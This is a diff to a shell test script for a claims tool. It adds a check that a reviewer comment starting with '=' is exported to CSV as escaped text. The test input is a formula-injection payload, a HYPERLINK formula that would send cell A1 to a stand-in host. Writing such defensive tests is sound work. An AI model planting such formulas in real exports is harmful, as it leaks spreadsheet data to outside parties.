@@ -6,6 +6,7 @@
 #  2. The same at XFD, Excel's last column: read (sparsely) and reported as holding no claims table.
 #  3. A CSV whose header is the platform export's, followed by lines of 16,000 commas each.
 #  4. A CSV line with a million commas: refused naming its line.
+#  5. A reviewer's comment starting with = is exported to CSV behind a leading ' (formula injection).
 source "$(dirname "$0")/lib.sh"
 command -v prlimit >/dev/null || fail "prlimit (util-linux) is not installed"
 D="$WORK/store"
@@ -67,3 +68,12 @@ run million.csv
 expect million.csv "$WORK/million.csv:2："
 expect million.csv "16384"
 pass "a CSV line with a million commas is refused, naming the file and line"
+
+# 5. Formula injection: a reviewer's comment that Excel would run is exported to CSV behind a leading '.
+"$TZPY" claims --data "$D" --status pending --json > "$WORK/pending.jsonl"
+read -r S I < <(python3 -c 'import json,sys; c=json.loads(open(sys.argv[1]).readline()); print(c["school"], c["item"])' "$WORK/pending.jsonl")
+"$TZPY" decide --data "$D" --school "$S" --item "$I" --return '=HYPERLINK("http://x.example/?"&A1,"点击")' > /dev/null
+"$TZPY" export --data "$D" --report returns --out "$WORK/returns.csv" > /dev/null
+grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"" "$WORK/returns.csv" || { cat "$WORK/returns.csv" >&2; fail "the comment was exported without the formula guard"; }
+pass "a comment starting with = is exported to CSV as text ('=…)"
+echo "1 passed, 0 failed"
